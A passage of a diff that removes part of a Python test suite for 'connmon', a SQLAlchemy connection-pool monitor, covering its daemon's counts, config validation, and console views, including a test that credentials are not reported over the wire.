-        servers = {s["server"]: s for s in daemon.snapshot()["databases"]}
-        postgres, mysql = servers["127.0.0.1:5432"], servers["127.0.0.1:3306"]
-        assert (postgres["conn"], postgres["ckout"], postgres["limit"],
-                postgres["max_connections"], postgres["nproc"],
-                postgres["nprog"]) == (3, 3, 8, 100, 1, 1)
-        assert {d["database"]: (d["conn"], d["ckout"], d["limit"], d["users"])
-                for d in postgres["databases"]} == {
-            "test": (2, 2, 4, ["postgres"]),
-            "postgres": (1, 1, 4, ["postgres"])}
-        assert (mysql["conn"], mysql["max_connections"]) == (1, None)
-        assert [(p["progname"], p["conn"]) for p in postgres["programs"]] == [
-            ("nova-like.py", 3)]
-        table = plain_table(daemon, "--procs")
-        assert "postgresql://postgres@127.0.0.1:5432/postgres  conn 1" in table
-        assert "127.0.0.1:5432 (postgresql): conn 3 of 100" in table
-    finally:
-        daemon.stop()
-
-
-def test_no_password_query_or_url_on_the_wire(daemon, apps):
-    """Each pool reports backend, host, port, database and user, and
-    nothing else of its URL; connmon_endpoint=0 not even that."""
-    require_database(POSTGRESQL_URL)
-    relay = Relay(daemon.port)
-    password = "pr3ssure-Pa55"   # trust auth: the server ignores it
-    url = POSTGRESQL_URL.replace("postgres@", f"postgres:{password}@")
-    query = (f"connect_timeout=7&application_name=sekrit&plugin=connmon"
-             f"&connmon_addr=127.0.0.1:{relay.port}")
-    reported = apps(f"{url}?{query}", "endpoint.py")
-    hidden = apps(f"{url}?{query}&connmon_endpoint=0", "noendpoint.py")
-    for app in (reported, hidden):
-        app("hold 1")
-        daemon.wait_row(app.progname, conn=1, ckout=1)
-    relay.close()
-    with relay.lock:
-        wire = bytes(relay.received)
-    messages = [json.loads(line) for line in wire.splitlines()]
-    endpoints = [pool[2] for m in messages for pool in m.get("pools", [])]
-    assert {"backend": "postgresql", "host": "127.0.0.1", "port": 5432,
-            "database": "test", "user": "postgres"} in endpoints
-    assert None in endpoints   # connmon_endpoint=0
-    for secret in (password.encode(), b"connect_timeout", b"sekrit",
-                   b"://", b"psycopg2", b"plugin", b"connmon_"):
-        assert secret not in wire, secret
-    (row,) = [r for r in daemon.snapshot(procs=True)["rows"]
-              if r["progname"] == "noendpoint.py"]
-    assert row["procs"][0]["pools"][0]["endpoint"] is None
-
-
-def test_report_endpoints_off_in_the_config(tmp_path):
-    """report_endpoints: 0 in the service's section: no engine of the
-    service reports its database; a bad value fails create_engine()."""
-    import sqlalchemy as sa
-    daemon = Daemon(tmp_path, extra_config="report_endpoints: 0\n")
-    try:
-        url = (f"sqlite:///{tmp_path}/quiet.sqlite?plugin=connmon"
-               f"&connmon_service=test&connmon_config={daemon.config}")
-        engine = sa.create_engine(url)
-        with engine.connect():
-            (row,) = wait_until(lambda: [r for r in daemon.snapshot(
-                procs=True)["rows"] if r["ckout"] == 1], 10, "the checkout")
-        (pool,) = row["procs"][0]["pools"]
-        assert pool["endpoint"] is None and pool["conn"] == 1
-        assert [s["server"] for s in daemon.snapshot()["databases"]] == [None]
-        daemon.config.write_text(daemon.config.read_text().replace(
-            "report_endpoints: 0", "report_endpoints: no"))
-        message = "report_endpoints: expected 1 (on) or 0 (off), got 'no'"
-        with pytest.raises(connmon.ConfigError, match=re.escape(message)):
-            sa.create_engine(url)
-        # connmond's --check-config knows the applications' option too.
-        result = run_connmond("--check-config", "-c", str(daemon.config),
-                              "-s", "test")
-        assert result.returncode == 2 and message in result.stderr
-    finally:
-        daemon.stop()
-
-
-def test_connect_errors_counted(daemon):
-    """A database that cannot be reached: each failed checkout is a
-    connect error, not a timeout; nothing of it reaches the app but the
-    driver's own error."""
-    import sqlalchemy as sa
-    engine = sa.create_engine(
-        f"mysql+pymysql://root@127.0.0.1:{free_port()}/test?plugin=connmon"
-        f"&connmon_addr={daemon.address}")
-    for _ in range(2):
-        with pytest.raises(sa.exc.OperationalError):
-            engine.connect()
-    row = daemon.wait_row(connmon.progname(), connect_errors_total=2)
-    assert (row["timeouts_total"], row["connects_total"], row["conn"],
-            row["waits_total"]) == (0, 0, 0, 2)
-
-
-def test_connect_time_is_the_drivers_connect(daemon, tmp_path):
-    """A connect that takes 0.3 s counts 0.3 s (from the moment the pool
-    calls the driver to the pool's connect event), and a checkout of an
-    open connection counts none."""
-    import sqlite3
-
-    import sqlalchemy as sa
-
-    def slow_connect():
-        time.sleep(0.3)
-        return sqlite3.connect(str(tmp_path / "slow.db"))
-
-    engine = sa.create_engine(
-        f"sqlite:///{tmp_path}/slow.db?plugin=connmon"
-        f"&connmon_addr={daemon.address}", creator=slow_connect)
-    for _ in range(3):
-        engine.connect().close()
-    row = daemon.wait_row(connmon.progname(), connects_total=1)
-    assert 0.3 <= row["connect_seconds_total"] < 0.45, row
-
-
-@pytest.mark.parametrize("how", ["poolclass", "pool", "nullpool"])
-def test_the_apps_own_pool_keeps_working(how, daemon, tmp_path, caplog):
-    """poolclass= with the plugin is measured; pool= works and says, in
-    one log line, what is not measured; an unlimited pool never waits."""
-    import logging
-    import sqlalchemy as sa
-    url = (f"sqlite:///{tmp_path}/own.sqlite?plugin=connmon"
-           f"&connmon_addr={daemon.address}")
-    options: Dict[str, Any] = {
-        "poolclass": {"pool": sa.pool.QueuePool, "poolclass":
-                      sa.pool.QueuePool, "nullpool": sa.pool.NullPool}[how],
-        "pool_size": 1, "max_overflow": 0, "pool_timeout": 0.3}
-    if how == "nullpool":
-        options = {"poolclass": sa.pool.NullPool}
-    if how == "pool":
-        import sqlite3
-        options = {"pool": sa.pool.QueuePool(
-            lambda: sqlite3.connect(f"{tmp_path}/own.sqlite"), pool_size=1,
-            max_overflow=0, timeout=0.3)}
-    with caplog.at_level(logging.WARNING, logger="connmon"):
-        engine = sa.create_engine(url, **options)
-    measured = how != "pool"
-    assert isinstance(engine.pool, connmon.MeasuredPool) == measured
-    assert isinstance(engine.pool, sa.pool.NullPool if how == "nullpool"
-                      else sa.pool.QueuePool)
-    notes = [r.getMessage() for r in caplog.records
-             if "not measured" in r.getMessage()]
-    assert len(notes) == (0 if measured else 1)
-    progname = connmon.progname()
-    held = engine.connect()   # the first use attaches the process
-    if how != "nullpool":
-        with pytest.raises(sa.exc.TimeoutError):
-            engine.connect()
-    else:
-        engine.connect().close()
-    held.close()
-    engine.dispose()   # the recreated pool reports alike
-    with engine.connect() as conn:
-        conn.exec_driver_sql("SELECT 1")
-    row = daemon.wait_row(progname, ckout=0, ckout_total=2 if how !=
-                          "nullpool" else 3)
-    assert row["waiting"] == 0 and row["maxwaiting"] <= 1
-    assert row["timeouts_total"] == (1 if how in ("poolclass",) else 0)
-    assert row["waits_total"] == {"poolclass": 3, "pool": 0,
-                                  "nullpool": 3}[how]
-
-
-def test_engines_sharing_one_pool_count_it_once(daemon, tmp_path):
-    """Two engines given one pool= of the application's: its connections
-    and its capacity are counted once."""
-    import sqlite3
-    import sqlalchemy as sa
-    url = (f"sqlite:///{tmp_path}/shared.sqlite?plugin=connmon"
-           f"&connmon_addr={daemon.address}")
-    pool = sa.pool.QueuePool(
-        lambda: sqlite3.connect(f"{tmp_path}/shared.sqlite"), pool_size=3,
-        max_overflow=0)
-    first, second = (sa.create_engine(url, pool=pool) for _ in range(2))
-    held = [first.connect(), second.connect()]
-    progname = connmon.progname()
-    daemon.wait_row(progname, conn=2, ckout=2, limit=3)
-    for conn in held:
-        conn.close()
-    daemon.wait_row(progname, conn=2, ckout=0, limit=3)
-    pool.dispose()
-    daemon.wait_row(progname, conn=0, ckout=0, limit=3)
-
-
-def test_database_servers_setting_is_checked(tmp_path):
-    path = pathlib.Path(write(tmp_path, textwrap.dedent("""\
-        [connmon_service_a]
-        name: a
-        database_servers:
-            db1:3306 max_connections=151
-            db2 max_connections=500
-        nodes:
-            n1 hostname=127.0.0.1:5999
-        """)))
-    result = run_connmond("-c", str(path), "-s", "a", "--check-config")
-    assert result.returncode == 2
-    assert "database_servers: 'db2' needs its port" in result.stderr
-    path.write_text(path.read_text().replace("db2 ", "db2:5432 "))
-    assert run_connmond("-c", str(path), "-s", "a", "--check-config"
-                        ).returncode == 0
-    path.write_text(path.read_text().replace("=500", "=lots"))
-    result = run_connmond("-c", str(path), "-s", "a", "--check-config")
-    assert "expected HOST:PORT max_connections=N" in result.stderr
-
-
-def test_pressure_in_the_csv_columns(tmp_path, apps):
-    csv_path = tmp_path / "pressure.csv"
-    daemon = Daemon(tmp_path, extra_config=(
-        f"csv_dump: {csv_path}\ncsv_interval: 0.2\ncsv_columns: progname "
-        "waiting maxwaiting timeouts_total wait_seconds_total "
-        "invalidations_total connect_errors_total\n"))
-    try:
-        app = apps(f"sqlite:///{tmp_path}/c.sqlite?plugin=connmon"
-                   f"&connmon_addr={daemon.address}", "csvpressure.py",
-                   pool_size=1, max_overflow=0)
-        app("hold 1")
-        app("invalidate")
-        daemon.wait_row("csvpressure.py", invalidations_total=1)
-        rows = wait_until(lambda: [r for r in csv_rows(csv_path)
-                                   if r["invalidations_total"] == "1"], 10,
-                          "the invalidation in the CSV")
-        assert rows[-1]["progname"] == "csvpressure.py"
-        assert rows[-1]["timeouts_total"] == "0"
-        assert float(rows[-1]["wait_seconds_total"]) > 0
-    finally:
-        daemon.stop()
-
-
-def screen_row(t: Terminal, progname: str) -> Dict[str, str]:
-    """A table row on screen as heading -> field, alarm markers taken off
-    ({} while it is not on screen); "y" is its line.  Which columns are
-    there depends on the width (see COLUMNS' drop order)."""
-    heads, _ = table_on_screen(t)
-    marks = connmon_console.ABOVE + connmon_console.LEAKED
-    for y, line in enumerate(t.display):
-        fields = line.split()
-        if 7 <= y < len(t.display) - 1 and len(heads) > 2 and (
-                len(fields) == len(heads) and fields[1] == progname):
-            return {"y": y, **{head: field.lstrip(marks)
-                               for head, field in zip(heads, fields)}}
-    return {}
-
-
-def test_console_shows_waiting_programs_and_databases_at_80x24(
-        tmp_path, apps, pressure_apps, terminal):
-    """At 80x24: WAIT and TMOUT/S on screen, a waiting program's row in
-    the alarm's colours, its sites first in the sites view, its pressure
-    and pools in the drill-down, and the databases view against the
-    server's max_connections."""
-    require_database(MYSQL_URL)
-    daemon = Daemon(tmp_path, extra_config=(
-        "database_servers:\n    127.0.0.1:3306 max_connections=151\n"))
-    try:
-        query = f"?plugin=connmon&connmon_addr={daemon.address}"
-        calm = apps(f"sqlite:///{tmp_path}/calm.sqlite{query}", "calm.py")
-        calm("hold 5")
-        crowded = pressure_apps([MYSQL_URL + query], "wait.py",
-                                pool_size=2, max_overflow=0, pool_timeout=20)
-        crowded("crowd 6 25")
-        daemon.wait_row("wait.py", waiting=4, ckout=2)
-        term = terminal("-H", daemon.address, "-i", "0.2", cols=80,
-                        lines=24)
-        # At 80 columns WAIT and TMOUT/S stay (the MAX* group goes
-        # first); the table starts sorted by CONN, biggest first.
-        term.wait_for(lambda t: {key: screen_row(t, "wait.py").get(key)
-                                 for key in ("CONN", "CKOUT", "WAIT",
-                                             "TMOUT/S")} == {
-            "CONN": "2", "CKOUT": "2", "WAIT": "4", "TMOUT/S": "0"},
-            "wait.py WAIT 4")
-        assert "MAXCONN" not in term.text
-        assert "sorted by CONN descending" in term.text
-        assert re.search(r"Wait 4/\d+", term.text)
-        y = screen_row(term, "wait.py")["y"]
-        assert (term.screen.buffer[y][0].fg, term.screen.buffer[y][0].bg
-                ) == ("white", "red")
-        # Without colour too: the waiting number carries the marker.
-        assert "!4" in term.display[y].split()
-        y = screen_row(term, "calm.py")["y"]
-        assert term.screen.buffer[y][0].bg != "red"
-
-        term.press(b"s")   # the waiting program's sites come first
-        term.wait_for(lambda t: [p for p, _, _ in screen_sites(t)] == [
-            "wait.py", "calm.py"], "wait.py's site above calm.py's")
-        term.press(b"\x1b")
-        term.wait_for(lambda t: screen_row(t, "wait.py"), "the table")
-
-        term.press(b"d")   # the databases view
-        term.wait_text("database servers")
-        term.wait_for(lambda t: re.search(
-            r"127\.0\.0\.1:3306 +all \(mysql\) +2 +1 +2 +!4 +2\b",
-            t.text), "the MariaDB server against its 151")
-        assert re.search(r"127\.0\.0\.1:3306 +db test +2 +- +2 +!4",
-                         term.text)
-        assert re.search(r"127\.0\.0\.1:3306 +wait\.py +\S+ +2 +- +2 +!4",
-                         term.text)
-        # The footer names this view's keys only (the table's "s sites"
-        # does nothing here).
-        assert "Esc back" in term.display[-1]
-        assert "s sites" not in term.display[-1]
-        term.press(b"d")
-        term.wait_for(lambda t: screen_row(t, "wait.py"), "the table")
-
-        # To wait.py (below calm.py: CONN descending), and into it.
-        down = screen_row(term, "wait.py")["y"] - 7
-        term.press(term.key["khome"] + term.key["kcud1"] * down + b"\r")
-        term.wait_text("wait.py on ")
-        term.wait_for(lambda t: re.search(
-            r"waiting 4 \(max \d+, longest \d+\.\d ms\)", t.text),
-            "the drill-down's pressure line")
-        term.wait_text("1 pool, with the database of each")
-        assert "mysql://root@127.0.0.1:3306/test" in term.text
-
-        outcomes = json.loads(crowded("outcomes", timeout=60)[0])
-        assert [o for o, _ in outcomes].count("timeout") == 4
-        term.wait_for(lambda t: re.search(r"timeouts \d+/s \(4\)", t.text),
-                      "four timeouts in the drill-down")
-    finally:
-        daemon.stop()
-
-
-# ---------------------------------------------------------------------------
-# The operator's console at 80x24; the command line and the config check
-# ---------------------------------------------------------------------------
-
-# (tests of the console's habits go here)
-
-# The programs of an OpenStack control plane and two compute hosts:
-# (hostname, progname, connections, checked out, age of the oldest
-# checkout in seconds or None, pool capacity).
-OPENSTACK = [
-    ("ctl1", "nova-conductor", 14, 3, 1243.6, 40),
-    ("ctl1", "nova-scheduler", 4, 2, 2.0, 2),          # exhausted
-    ("ctl1", "neutron-server", 11, 1, 120.5, 30),
-    ("ctl1", "neutron-dhcp-agent", 6, 1, 5.0, 15),
-    ("ctl1", "neutron-l3-agent", 5, 0, None, 15),
-    ("ctl2", "neutron-dhcp-agent", 3, 1, 95.0, 15),
-    ("ctl2", "neutron-l3-agent", 2, 0, None, 15),
-    ("compute1", "nova-compute", 9, 2, 33.3, 15),
-    ("compute2", "nova-compute", 8, 1, 61.0, 15),
-]
-MARK = connmon_console.CUT_MARK
-
-
-def openstack_fleet(daemon: Daemon) -> Dict[Tuple[str, str], "SyntheticApp"]:
-    """One synthetic process per row of OPENSTACK, its connections held
-    since the ages given (nova-conductor's first one by a thread that is
-    gone)."""
-    fleet = {}
-    for host, prog, conns, out, age, limit in OPENSTACK:
-        app = SyntheticApp(daemon, host, prog)
-        app.event(connmon.POOL, 1, limit)
-        for conn in range(1, conns + 1):
-            app.event(connmon.CONNECT, conn, 1)
-        now = time.monotonic()
-        app.state.fold([(connmon.CHECKOUT, conn, now - (age or 0) + conn - 1,
-                         1, None, None, None, None)
-                        for conn in range(1, out + 1)])
-        if prog == "nova-conductor":
-            app.state.site_names[7] = "/srv/nova/db/api.py:88 in leak"
-            app.state.holders[1] = (7, None, None)
-            app.state.held_at[1] = "thread gone"
-        app.send()
-        fleet[host, prog] = app
-    want = {(host, prog, conns, out, limit)
-            for host, prog, conns, out, _, limit in OPENSTACK}
-    wait_until(lambda: {(row["hostname"], row["progname"], row["conn"],
-                         row["ckout"], row["limit"])
-                        for row in daemon.snapshot()["rows"]} == want,
-               what="the OpenStack rows")
-    return fleet
-
-
-def shown_as(shown: str, real: str) -> bool:
-    """Whether a name on screen is ``real``, whole or cut with the mark."""
-    if MARK not in shown:
-        return shown == real
-    head, tail = shown.split(MARK)
-    return (len(real) >= len(shown) and real.startswith(head)
-            and real.endswith(tail))
-
-
-def table_on_screen(t: Terminal) -> Tuple[List[str], List[List[str]]]:
-    """The headings (sort arrow taken off) and the rows of the table."""
-    lines = t.display
-    heads = [re.sub("[\N{UPWARDS ARROW}\N{DOWNWARDS ARROW}]", "", field)
-             for field in lines[6].split()]
-    rows = [line.split() for line in lines[7:-1] if line.strip()]
-    return heads, rows
-
-
-def seconds_shown(text: str) -> float:
-    """A duration as the console shows it (12.3, 5m44s, 2h05m, 3d04h)."""
-    found = re.fullmatch(r"(\d+)([dhm])(\d+)[hms]", text)
-    if found is None:
-        return float(text)
-    unit, small = {"d": (86400, 3600), "h": (3600, 60), "m": (60, 1)}[
-        found[2]]
-    return int(found[1]) * unit + int(found[3]) * small
-
-
-def check_openstack_table(t: Terminal, truth: Dict[Tuple[str, str], dict]
-                          ) -> List[Tuple[str, str]]:
-    """Every row on screen is one real row, told apart from the others;
-    every number shown is whole and true; CONN descends.  Returns the
-    real rows seen, in screen order."""
-    heads, rows = table_on_screen(t)
-    assert shown_as(heads[0], "HOSTNAME") and heads[1] == "PROGNAME", heads
-    seen = []
-    for fields in rows:
-        assert len(fields) == len(heads), (heads, fields)
-        (real,) = [key for key in truth if shown_as(fields[0], key[0])
-                   and shown_as(fields[1], key[1])]
-        seen.append(real)
-        row = truth[real]
-        for heading, field in zip(heads[2:], fields[2:]):
-            value = field.lstrip("!*")
-            key = {"CKOUT/S": "ckout_per_sec", "HOLD_MS": "hold_ms",
-                   "WAIT": "waiting", "TMOUT/S": "timeouts_per_sec"}.get(
-                       heading, heading.lower())
-            if key == "oldest":
-                assert (value == "-") == (row["oldest"] is None), field
-                if value != "-":   # older now, never cut short (5m44s)
-                    assert row["oldest"] - 1 < seconds_shown(value) < row[
-                        "oldest"] + 60, (real, field)
-            elif key not in ("ckout_per_sec", "hold_ms"):
-                assert value == connmon_console.cell(row[key]), (
-                    real, heading, field)
-    assert len(set(seen)) == len(seen), seen
-    conns = [truth[key]["conn"] for key in seen]
-    assert conns == sorted(conns, reverse=True)
-    return seen
-
-
-@pytest.mark.parametrize("cols, lines", [(80, 24), (40, 15)])
-def test_console_openstack_names_at_80x24_and_40x15(tmp_path, terminal,
-                                                    cols, lines):
-    daemon = Daemon(tmp_path, extra_config="hold_warn_seconds: 30\n")
-    try:
-        fleet = openstack_fleet(daemon)
-        truth = {(row["hostname"], row["progname"]): row
-                 for row in daemon.snapshot()["rows"]}
-        term = terminal("-H", daemon.address, "-i", "0.3", cols=cols,
-                        lines=lines)
-        visible = lines - 8
-        term.wait_for(lambda t: len(table_on_screen(t)[1]) == min(
-            visible, len(OPENSTACK)), "the table")
-        heads, _ = table_on_screen(term)
-        if cols == 80:
-            # The MAX* group, the rate, LIMIT and HOLD_MS went first
-            # (WAIT and TMOUT/S, the pool pressure, stay); names whole.
-            assert heads == ["HOSTNAME", "PROGNAME", "NPROC", "CONN", "CKOUT",
-                             "WAIT", "TMOUT/S", "OLDEST"]
-            assert MARK not in "\n".join(term.display[6:-1])
-        else:
-            assert heads == ["HOSTN" + MARK, "PROGNAME", "CONN", "CKOUT",
-                             "OLDEST"]
-        seen = check_openstack_table(term, truth)
-        term.press(term.key["kend"])   # the rest, at 40x15
-        term.wait_for(lambda t: check_openstack_table(t, truth)[-1:] == [
-            max(truth, key=lambda k: (-truth[k]["conn"], k))], "the end")
-        seen += check_openstack_table(term, truth)
-        assert set(seen) == set(truth)
-        # The leak's OLDEST is marked, in the alarm colour.
-        term.press(term.key["khome"])
-        term.wait_for(lambda t: "*20m" in t.text, "the leak's marker")
-        (y,) = [y for y, line in enumerate(term.display) if "*20m" in line]
-        x = term.display[y].index("*20m")
-        assert term.screen.buffer[y][x].bg == "red"
-        # PAUSED, at any width, first on the title line.
-        term.press(b" ")
-        term.wait_for(lambda t: t.display[0].startswith("PAUSED "),
-                      "PAUSED")
-        fleet["ctl1", "nova-conductor"].event(connmon.CONNECT, 99, 1)
-        fleet["ctl1", "nova-conductor"].send()
-        daemon.wait_row("nova-conductor", conn=15)
-        time.sleep(1.0)
-        assert check_openstack_table(term, truth)   # the old picture
-        term.press(b"p")
-        term.wait_for(lambda t: not t.display[0].startswith("PAUSED"),
-                      "resumed")
-    finally:
-        daemon.stop()
-
-
-def fleet_rows_on_screen(t: Terminal) -> Dict[str, List[str]]:
-    """The fleet view's rows: progname -> [hosts, numbers...]."""
-    rows = {}
-    for line in t.display[7:-1]:
-        found = re.match(r"(\d+ hosts?) +(\S+) +(.*)", line)
-        if found:
-            rows[found[2]] = [found[1]] + [
-                field.lstrip("!*") for field in found[3].split()]
-    return rows
-
-
-def test_console_fleet_view_totals_and_drill_down(tmp_path, terminal):
-    daemon = Daemon(tmp_path)
-    try:
-        fleet = openstack_fleet(daemon)   # kept: its connections stay
-        truth = daemon.snapshot()["rows"]
-        term = terminal("-H", daemon.address, "-i", "0.3", cols=160)
-        term.wait_text("9 rows, sorted by CONN descending")
-        term.press(b"f")
-        term.wait_text("6 programs over every host, sorted by CONN")
-        term.wait_for(lambda t: len(fleet_rows_on_screen(t)) == 6,
-                      "six programs")
-        heads, _ = table_on_screen(term)
-        for prog, fields in fleet_rows_on_screen(term).items():
-            hosts = [row for row in truth if row["progname"] == prog]
-            assert fields[0] == connmon.plural(len(hosts), "host")
-            numbers = dict(zip(heads[2:], fields[1:]))
-            for key in ("nproc", "conn", "ckout", "limit", "maxnproc",
-                        "maxconn", "maxckout", "waiting"):
-                heading = {"waiting": "WAIT"}.get(key, key.upper())
-                assert numbers[heading] == str(
-                    sum(row[key] for row in hosts)), (prog, key)
-        # The biggest program first: CONN descends over the fleet too.
-        order = [line.split()[2] for line in term.display[7:-1]
-                 if re.match(r"\d+ hosts?", line)]
-        sums = [sum(r["conn"] for r in truth if r["progname"] == p)
-                for p in order]
-        assert sums == sorted(sums, reverse=True)
-        # Drill into nova-compute: its processes on both compute hosts.
-        term.press(term.key["kcud1"] * order.index("nova-compute") + b"\r")
-        term.wait_text("nova-compute on every host: 2 processes")
-        term.wait_for(lambda t: "compute1" in t.text and "compute2" in
-                      t.text, "both hosts' processes")
-        term.press(b"\x1b")
-        term.wait_text("6 programs over every host")
-        term.press(term.key["kf5"])   # F5: back to host+program rows
-        term.wait_text("9 rows, sorted by CONN descending")
-        # ... and the drill-down from a host row shows that host only.
-        term.press(b"\r")
-        term.wait_text("nova-conductor on ctl1: 1 process")
-    finally:
-        daemon.stop()
-
-
-def sparkline_of(t: Terminal, label: str) -> str:
-    line = history_line(t, label)
-    return line.split(None, 2)[2] if line.count(" ") >= 2 else ""
-
-
-def test_console_draws_the_daemons_history_after_a_restart(tmp_path,
-                                                          terminal):
-    daemon = Daemon(tmp_path)
-    try:
-        app = SyntheticApp(daemon, "ctl1", "nova-conductor")
-        app.event(connmon.POOL, 1, 20)
-        for conn in range(1, 4):   # a leak's staircase, before any console
-            app.event(connmon.CONNECT, conn, 1)
-            app.event(connmon.CHECKOUT, conn, 1)
-            app.send()
-            time.sleep(2.2)
-        daemon.wait_row("nova-conductor", ckout=3)
-
-        def staircase(t: Terminal) -> bool:
-            spark = sparkline_of(t, "CKOUT")
-            ramp = connmon_console.UNICODE_GLYPHS["spark"]
-            levels = [ramp.index(char) for char in spark if char in ramp]
-            return (len(spark) >= 6 and levels == sorted(levels)
-                    and len(set(levels)) >= 3 and levels[-1] == 7)
-        for _ in range(2):   # a console, then another one after it
-            term = terminal("-H", daemon.address, "-i", "0.3")
-            term.wait_for(lambda t: "nova-conductor" in t.rows(), "the row")
-            term.press(b"\r")
-            term.wait_text("nova-conductor on ctl1: 1 process")
-            term.wait_for(staircase, "the staircase from the daemon")
-            assert re.search(r"History of the last \d+s \(connmond's",
-                             term.text)
-            term.press(b"q")
-            assert term.proc.wait(10) == 0
-    finally:
-        daemon.stop()
-
-
-def test_console_thresholds_marked_with_and_without_colour(tmp_path,
-                                                           terminal):
-    daemon = Daemon(tmp_path, extra_config="hold_warn_seconds: 30\n"
-                    "hold_ms_warn: 100\n")
-    stop = threading.Event()
-    try:
-        fleet = openstack_fleet(daemon)   # kept: its connections stay
-        slow = SyntheticApp(daemon, "ctl2", "glance-api")
-        slow.event(connmon.POOL, 1, 10)
-        slow.event(connmon.CONNECT, 1, 1)
-        slow.send()
-
-        def slow_queries() -> None:   # each one held for half a second
-            while not stop.wait(0.2):
-                now = time.monotonic()
-                slow.state.fold([
-                    (connmon.CHECKOUT, 1, now - 0.5, 1, None, None, None,
-                     None),
-                    (connmon.CHECKIN, 1, now, None, None, None, None,
-                     None)])
-                slow.send()
-        threading.Thread(target=slow_queries, daemon=True).start()
-        for env in ({}, {"TERM": "vt100"}):
-            term = terminal("-H", daemon.address, "-i", "0.3", cols=120,
-                            env=env)
-            term.wait_for(lambda t: len(table_on_screen(t)[1]) == 10,
-                          "ten rows")
-
-            def marks(t: Terminal) -> Dict[str, List[str]]:
-                """host/program -> the marked numbers of its row."""
-                _, rows = table_on_screen(t)
-                return {f"{fields[0]}/{fields[1]}": [
-                    field for field in fields[2:] if field[0] in "!*"]
-                    for fields in rows}
-            # glance-api holds each connection 500 ms (its only alarm).
-            term.wait_for(lambda t: re.fullmatch(r"!(4|5)[0-9][0-9]\.[0-9]",
-                                                 *marks(t)["ctl2/glance-api"]
-                                                 or [""]),
-                          "HOLD_MS above hold_ms_warn")
-            found = marks(term)
-            # OLDEST above 30 s: "!"; the gone thread's leak: "*";
-            # nova-scheduler's pool (2) all out: CKOUT "!"; calm rows bare.
-            assert re.fullmatch(r"\*2[01]m[0-9][0-9]s",
-                                *found["ctl1/nova-conductor"])
-            assert re.fullmatch(r"![23]m[0-9][0-9]s",
-                                *found["ctl1/neutron-server"])
-            assert found["ctl1/nova-scheduler"] == ["!2"]
-            assert found["ctl1/neutron-dhcp-agent"] == []   # 5 s: calm
-            assert found["ctl1/neutron-l3-agent"] == []
-            assert re.fullmatch(r"![12]m[0-9][0-9]s",
-                                *found["ctl2/neutron-dhcp-agent"])
-            colours = {char.bg for line in term.screen.buffer.values()
-                       for char in line.values()}
-            assert ("red" in colours) == (env == {})
-            # F10 quits (vt100 has no F10: q)
-            term.press(b"q" if env else term.key["kf10"])
-            assert term.proc.wait(10) == 0
-        assert len(fleet) == len(OPENSTACK)
-    finally:
-        stop.set()
-        daemon.stop()
-
-
-def test_console_keys_footer_help_and_gone_rows(tmp_path, terminal):
-    daemon = Daemon(tmp_path, extra_config="forget_gone_after: 4\n")
-    try:
-        fleet = openstack_fleet(daemon)
-        term = terminal("-H", daemon.address, "-i", "0.3", cols=40,
-                        lines=15)
-
-        def selected(t: Terminal) -> List[int]:
-            t.pump()
-            return [y for y in range(7, 14) if t.screen.buffer[y][0].reverse]
-        # The selection is on the top row from the start.
-        term.wait_for(lambda t: len(table_on_screen(t)[1]) == 7, "rows")
-        term.wait_for(lambda t: selected(t) == [7], "the top row selected")
-        term.press(b"jj")
-        term.wait_for(lambda t: selected(t) == [9], "j moves down")
-        term.press(b"k")
-        term.wait_for(lambda t: selected(t) == [8], "k moves up")
-        # Help (F1) scrolls to its last line at 15 lines, any key returns.
-        term.press(term.key["kf1"])
-        term.wait_text("connmon keys")
-        assert "MAX*: the highest values" not in term.text
-        term.press(term.key["kend"])
-        term.wait_text("MAX*: the highest values")
-        term.press(b"z")
-        term.wait_text("sorted by CONN")
-        # An unknown key says where help is, for a while.
-        term.press(b"Z")
-        term.wait_text("unknown key: ? for help")
-        term.wait_for(lambda t: "unknown key" not in t.text and "F1 help" in
-                      t.text, "the message gone")
-        # F3 and F4 filter, as / does; Ctrl-L redraws.
-        for key in (term.key["kf3"], term.key["kf4"]):
-            term.press(key + b"nova-c")
-            term.wait_text("Filter: nova-c_")
-            term.press(b"\r")
-            term.wait_for(lambda t: len(table_on_screen(t)[1]) == 3,
-                          "the three nova-c rows")
-            term.press(b"\x1b")
-            term.wait_for(lambda t: len(table_on_screen(t)[1]) == 7,
-                          "filter cleared")
-        term.press(b"\x0c")
-        term.wait_for(lambda t: len(table_on_screen(t)[1]) == 7, "redrawn")
-        # The footer names only keys that work in the view.
-        term.resize(120, 30)
-        term.wait_for(lambda t: "r reverse" in t.display[-1] and
-                      "/ filter" in t.display[-1], "the table's footer")
-        term.press(b"s")
-        term.wait_text("checkout sites holding connections")
-        footer = term.display[-1]
-        assert "Enter procs" in footer and "Esc back" in footer
-        for word in ("sort", "reverse", "filter", "fleet"):
-            assert word not in footer
-        term.press(b"\x1b")
-        term.wait_text("sorted by CONN")
-        # Gone rows: hidden by x, and forgotten by the daemon in the end.
-        fleet.pop(("ctl2", "neutron-l3-agent")).conn.close()
-        wait_until(lambda: [r for r in daemon.snapshot()["rows"]
-                            if not r["connected"]], what="a gone row")
-        term.wait_text("9 rows")
-        term.press(b"x")
-        term.wait_text("8 rows, sorted by CONN descending, gone hidden")
-        term.press(b"x")
-        term.wait_text("9 rows, sorted by CONN descending")
-        wait_until(lambda: len(daemon.snapshot()["rows"]) == 8,
-                   what="the gone row forgotten")
-        term.wait_text("8 rows, sorted by CONN descending")
-    finally:
-        daemon.stop()
-
-
-def test_console_hide_gone_option(tmp_path, terminal):
-    daemon = Daemon(tmp_path)
-    try:
-        live = SyntheticApp(daemon, "ctl1", "nova-conductor")
-        SyntheticApp(daemon, "ctl1", "nova-api").conn.close()
-        wait_until(lambda: len(daemon.snapshot()["rows"]) == 2 and not all(
-            row["connected"] for row in daemon.snapshot()["rows"]),
-            what="a live and a gone row")
-        term = terminal("-H", daemon.address, "-i", "0.3", "--hide-gone")
-        term.wait_text("1 row, sorted by CONN descending, gone hidden")
-        assert "nova-conductor" in term.text and "nova-api" not in term.text
-        assert live.conn
-    finally:
-        daemon.stop()
-
-
-def test_forget_gone_after_is_a_checked_daemon_option(tmp_path):
-    daemon = Daemon(tmp_path, extra_config="forget_gone_after: 1\n")
-    try:
-        SyntheticApp(daemon, "ctl1", "cron-job").conn.close()
-        wait_until(lambda: daemon.snapshot()["rows"], what="the row")
-        wait_until(lambda: not daemon.snapshot()["rows"],
-                   what="the gone row forgotten")
-    finally:
-        daemon.stop()
-
-
-# -- The command lines --------------------------------------------------------
-
-
-def test_version_on_both_commands():
-    for module, name in (("connmon_console", "connmon"),
-                         ("connmon_server", "connmond")):
-        result = subprocess.run([sys.executable, "-m", module, "--version"],
